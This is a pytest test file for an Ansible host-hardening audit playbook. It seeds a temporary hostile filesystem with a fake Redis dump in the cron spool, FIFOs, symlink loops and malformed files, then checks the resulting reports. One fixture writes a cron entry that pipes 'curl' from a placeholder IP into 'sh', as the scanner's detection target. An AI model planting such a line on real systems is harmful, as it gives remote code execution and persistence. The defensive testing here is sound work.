"""playbooks/audit.yml for real: ansible-playbook against localhost with a hostile alternate
root and a temporary report directory; also in --check mode. Nothing here changes the machine
(the audit is read-only; the hostile tree and the reports live under pytest's tmp_path)."""
import json
import os
import re
import subprocess
import sys

import pytest
from ansible_collections.hostguard.hardening.plugins.module_utils.core.registry import area_names

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BIN = os.path.dirname(sys.executable)
URL = "http://203.0.113.9/x"
MARKER = "HG-HARNESS-PAYLOAD-MARKER"


def ansible_env():
    env = dict(os.environ)
    env.update(ANSIBLE_CONFIG=os.path.join(REPO, "ansible.cfg"),
               ANSIBLE_COLLECTIONS_PATH=os.path.join(REPO, ".collections"),
               ANSIBLE_NOCOLOR="1", ANSIBLE_FORCE_COLOR="0")
    env["PATH"] = BIN + os.pathsep + env.get("PATH", "")
    return env


def run_playbook(*extra, cwd=REPO):
    cmd = [os.path.join(BIN, "ansible-playbook"), os.path.join(REPO, "playbooks", "audit.yml")]
    cmd += list(extra)
    return subprocess.run(cmd, cwd=cwd, env=ansible_env(), capture_output=True, text=True, check=False)


@pytest.fixture
def hostile_root(tmp_path):
    """Seed 000 plus the hostile entries the issue lists, under an alternate root."""
    root = tmp_path / "root"
    for d in ("etc/cron.d", "etc/cron.daily", "var/spool/cron/crontabs", "etc/init.d"):
        (root / d).mkdir(parents=True)
    (root / "etc" / "passwd").write_text("root:x:0:0:root:/root:/bin/sh\n")
    dump = root / "var" / "spool" / "cron" / "dump.rdb"
    with open(str(dump), "wb") as handle:
        handle.write(b"REDIS0009\xfa\tredis-ver\x067.0.15" + MARKER.encode() + b"\0" * 4096)
        handle.truncate(3 * 1024 ** 3)            # a 3 GiB sparse tail: must never be read whole
    (root / "etc" / "cron.d" / "evil").write_text("* * * * * root curl -fsSL %s | sh\n" % URL)
    os.mkfifo(str(root / "etc" / "cron.d" / "fifo"))
    os.symlink("/dev/zero", str(root / "etc" / "cron.daily" / "zero"))
    os.symlink("loop2", str(root / "etc" / "cron.daily" / "loop1"))
    os.symlink("loop1", str(root / "etc" / "cron.daily" / "loop2"))
    (root / "etc" / "cron.d" / "badutf8").write_bytes(b"* * * * * root echo \xff\xfe\xc3\x28\n")
    (root / "etc" / "cron.d" / "longline").write_bytes(b"# " + b"A" * (1024 * 1024) + b"\n")
    return root


def load(path):
    with open(str(path)) as handle:
        return json.load(handle)


def failed(report):
    return set((f["id"], f["subject"]) for f in report["findings"] if f["status"] == "fail")


def check_report(report, root):
    assert report["host"] == "localhost"
    assert report["schema_version"] == 1
    assert re.match(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$", report["generated_at"])
    assert report["hostguard_version"]
    assert report["root"] == str(root)
    assert "cron" in report["areas"]
    assert "cron" in report["timings"] and "total" in report["timings"]
    assert report["areas"] == area_names()
    # No area crashed on the hostile tree; the cron area read everything it had to. (Checks of
    # other areas may say they could not evaluate a bare tree, e.g. no mount table.)
    assert [e for e in report["errors"] if e["id"] == "HG-CORE-001"] == [], report["errors"]
    assert [e for e in report["errors"] if e["id"].startswith("HG-CRON-")] == [], report["errors"]
    fails = failed(report)
    assert ("HG-CRON-001", "/var/spool/cron/dump.rdb") in fails
    assert ("HG-CRON-010", "/etc/cron.d/evil") in fails
    # the summary agrees with the findings
    counted = dict((s, 0) for s in report["summary"]["fail_by_severity"])
    for f in report["findings"]:
        if f["status"] == "fail":
            counted[f["severity"]] += 1
    assert counted == report["summary"]["fail_by_severity"]
    assert report["summary"]["worst_severity"] == "critical"
    assert report["summary"]["total"] == len(report["findings"])
    assert "hardening_index" in report["summary"]
    # no file content beyond the bounded excerpts; the URL only in the HG-CRON-010 finding
    text = json.dumps(report)
    assert MARKER not in text
    rest = dict(report, findings=[f for f in report["findings"] if f["id"] != "HG-CRON-010"])
    assert URL not in json.dumps(rest)
    assert "A" * 1024 not in text


def test_audit_playbook_writes_report_for_hostile_root(hostile_root, tmp_path):
    reports = tmp_path / "reports"
    proc = run_playbook("-e", "hostguard_report_dir=%s" % reports,
                        "-e", "hostguard_root=%s" % hostile_root)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    path = reports / "localhost.json"
    report = load(path)
    check_report(report, hostile_root)
    assert oct(os.stat(str(path)).st_mode & 0o777) == "0o640"
    # the compact summary: counts line and one line per top failing finding
    assert re.search(r"localhost: \d+ failed \(critical \d+", proc.stdout)
    assert re.search(r"CRITICAL +HG-CRON-001 +/var/spool/cron/dump.rdb", proc.stdout)
    assert "report: %s" % path in proc.stdout
    assert "changed=0" in proc.stdout
    # the hostile tree is untouched: the FIFO is still a FIFO, the dump still there
    assert os.path.exists(str(hostile_root / "etc" / "cron.d" / "fifo"))
    assert os.path.getsize(str(hostile_root / "var" / "spool" / "cron" / "dump.rdb")) == 3 * 1024 ** 3


def test_audit_playbook_check_mode_still_writes_report(hostile_root, tmp_path):
    reports = tmp_path / "reports-check"
    proc = run_playbook("--check", "-e", "hostguard_report_dir=%s" % reports,
                        "-e", "hostguard_root=%s" % hostile_root)
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    check_report(load(reports / "localhost.json"), hostile_root)
    assert "changed=0" in proc.stdout


def test_relative_report_dir_resolves_against_working_directory(hostile_root, tmp_path):
    workdir = tmp_path / "cwd"
    workdir.mkdir()
    proc = run_playbook("-e", "hostguard_root=%s" % hostile_root, "-i",
                        os.path.join(REPO, "inventory", "localhost.yml"), cwd=str(workdir))
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    check_report(load(workdir / "reports" / "localhost.json"), hostile_root)


def test_area_failure_is_reported_not_fatal(tmp_path):
    reports = tmp_path / "reports"
    proc = run_playbook("-e", "hostguard_report_dir=%s" % reports,
                        "-e", "hostguard_root=%s" % (tmp_path / "does-not-exist"))
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    report = load(reports / "localhost.json")
    # cron cannot run without its root (HG-CORE-001); the other areas still ran and report what
    # they could not evaluate as error findings of their own, never as a crashed audit
    core = [e for e in report["errors"] if e["id"] == "HG-CORE-001"]
    assert [e["area"] for e in core] == ["cron"]
    assert all(e["id"].startswith("HG-") for e in report["errors"])
    assert re.search(r"ERROR +HG-CORE-001 +cron", proc.stdout)


def test_fail_on_gate_fails_after_writing_every_report(hostile_root, tmp_path):
    reports = tmp_path / "reports"
    proc = run_playbook("-e", "hostguard_report_dir=%s" % reports,
                        "-e", "hostguard_root=%s" % hostile_root,
                        "-e", "hostguard_fail_on=critical")
    assert proc.returncode == 2, proc.stdout[-3000:]
    assert "hostguard gate (fail_on=critical)" in proc.stdout
    check_report(load(reports / "localhost.json"), hostile_root)
    latest = reports / "latest"
    assert (latest / "fleet.json").is_file() and (latest / "fleet.html").is_file()
    for ext in ("json", "xml", "html"):
        assert (latest / "hosts" / ("localhost." + ext)).is_file()
    fleet = load(latest / "fleet.json")
    assert fleet["gate"]["failed"] is True


def test_unknown_area_option_fails_clearly(tmp_path):
    proc = run_playbook("-e", "hostguard_report_dir=%s" % (tmp_path / "r"),
                        "-e", '{"hostguard_area_options": {"cron": {"max_read_byte": 10}}}')
    assert proc.returncode != 0
    assert "max_read_byte" in proc.stdout and "cron" in proc.stdout


def test_unknown_area_fails_clearly(tmp_path):
    proc = run_playbook("-e", "hostguard_report_dir=%s" % (tmp_path / "r"),
                        "-e", '{"hostguard_areas": ["cron", "nosuch"]}')
    assert proc.returncode != 0
    assert "unknown area(s): nosuch" in proc.stdout
